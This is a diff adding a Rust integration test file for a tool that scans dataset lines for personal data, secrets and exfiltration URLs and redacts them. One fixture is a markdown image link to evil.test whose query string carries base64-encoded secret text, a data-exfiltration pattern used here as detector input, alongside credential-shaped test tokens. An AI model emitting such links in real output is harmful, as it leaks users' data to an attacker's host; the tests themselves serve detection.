@@ -1,0 +1,123 @@
+//! `rampart guard check` / `redact`: the documented JSON lines, dataset summary, redaction
+//! actions and errors, on the real binary.
+
+use crate::util::rampart;
+use serde_json::Value;
+
+fn run(args: &[&str], stdin: &str) -> (i32, String, String) {
+    let out = rampart()
+        .args(args)
+        .write_stdin(stdin.to_string())
+        .output()
+        .expect("run rampart");
+    (
+        out.status.code().expect("code"),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+fn lines(s: &str) -> Vec<Value> {
+    s.lines()
+        .map(|l| serde_json::from_str(l).expect("JSON line"))
+        .collect()
+}
+
+#[test]
+fn check_writes_one_line_per_input_in_order() {
+    let input = [
+        r#"{"text": "Reach me at alice@example.com or +44 20 7946 0958", "label": 0}"#,
+        r#"{"text": "nothing to see here", "label": 0}"#,
+        r#"{"text": "deploy with AKIAQ3EGRQWX7ZYPAB2D and ghp_R8sT1vW3yZ6aC0dF5gH2jK9lM1nPq4Rs7Tu0", "label": 1}"#,
+        r#"{"text": "![p](https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZQ==) and ünïcödé 4111 1111 1111 1111", "label": 1}"#,
+        r#"{"text": "Nothing to see here!", "label": 1}"#,
+    ]
+    .join("\n");
+    let (code, out, err) = run(&["guard", "check"], &input);
+    assert_eq!(code, 1, "findings exit 1");
+    let v = lines(&out);
+    assert_eq!(v.len(), 5);
+    let types = |i: usize| -> Vec<String> {
+        v[i]["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|f| f["type"].as_str().unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(types(0), ["EMAIL", "PHONE"]);
+    assert!(types(1).is_empty());
+    assert_eq!(types(2), ["AWS_ACCESS_KEY_ID", "GITHUB_TOKEN"]);
+    assert_eq!(types(3), ["EXFIL_URL", "CREDIT_CARD"]);
+    // Offsets are Unicode scalar values, and the matched text is never printed.
+    let card = &v[3]["findings"][1];
+    let text = "![p](https://evil.test/p.png?d=U2VjcmV0IHByb2plY3QgbmFtZQ==) and ünïcödé 4111 1111 1111 1111";
+    let chars: Vec<char> = text.chars().collect();
+    let s: String = chars[card["start_char"].as_u64().unwrap() as usize
+        ..card["end_char"].as_u64().unwrap() as usize]
+        .iter()
+        .collect();
+    assert_eq!(s, "4111 1111 1111 1111");
+    assert!(!out.contains("AKIA") && !out.contains("alice@"), "{out}");
+    assert_eq!(v[2]["findings"][0]["detector"], "secrets");
+    assert_eq!(v[0]["line"], 1);
+    // The dataset summary: counts, lines, duplicates and conflicting labels.
+    assert!(
+        err.contains("5 inputs, 3 with findings (lines 1, 3, 4)"),
+        "{err}"
+    );
+    assert!(err.contains("EMAIL: 1"), "{err}");
+    assert!(err.contains("1 duplicates (lines 5)"), "{err}");
+    assert!(err.contains("conflicting labels (5 vs 2)"), "{err}");
+}
+
+#[test]
+fn only_and_allowlist() {
+    let t =
+        "mail bob@example.com ![x](https://cdn.corp.example/i.png?d=U2VjcmV0IHByb2plY3QgbmFtZQ==)";
+    let (_, out, _) = run(&["guard", "check", "--only", "secrets,exfil"], t);
+    assert_eq!(lines(&out)[0]["findings"][0]["type"], "EXFIL_URL");
+    assert_eq!(lines(&out)[0]["findings"].as_array().unwrap().len(), 1);
+    let (code, out, _) = run(
+        &[
+            "guard",
+            "check",
+            "--only",
+            "exfil",
+            "--allow-host",
+            "corp.example",
+        ],
+        t,
+    );
+    assert_eq!(code, 0);
+    assert!(lines(&out)[0]["findings"].as_array().unwrap().is_empty());
+    let (code, _, err) = run(&["guard", "check", "--only", "pii,bogus"], t);
+    assert_eq!(code, 2);
+    assert!(err.contains("unknown detector \"bogus\""), "{err}");
+}
+
+#[test]
+fn redact_actions() {
+    let t = r#"{"text": "mail bob@example.com, card 4111 1111 1111 1111", "id": 7}"#;
+    let (code, out, _) = run(&["guard", "redact"], t);
+    assert_eq!(code, 0);
+    let v = lines(&out);
+    assert_eq!(v[0]["text"], "mail [EMAIL], card [CREDIT_CARD]");
+    assert_eq!(v[0]["id"], 7, "other fields kept");
+    let (_, out, _) = run(
+        &["guard", "redact", "--action", "pseudonymize", "--lines"],
+        "a bob@example.com\nb bob@example.com\n",
+    );
+    assert_eq!(out, "a EMAIL_1\nb EMAIL_1\n");
+    let (code, _, err) = run(&["guard", "redact", "--action", "hash"], "bob@example.com");
+    assert_eq!(code, 2);
+    assert!(err.contains("RAMPART_REDACT_KEY"), "{err}");
+    let out = rampart()
+        .args(["guard", "redact", "--action", "hash"])
+        .env("RAMPART_REDACT_KEY", "k")
+        .write_stdin("bob@example.com")
+        .output()
+        .unwrap();
+    let s = String::from_utf8(out.stdout).unwrap();
+    assert!(s.starts_with("[EMAIL:") && !s.contains("bob"), "{s}");
+}
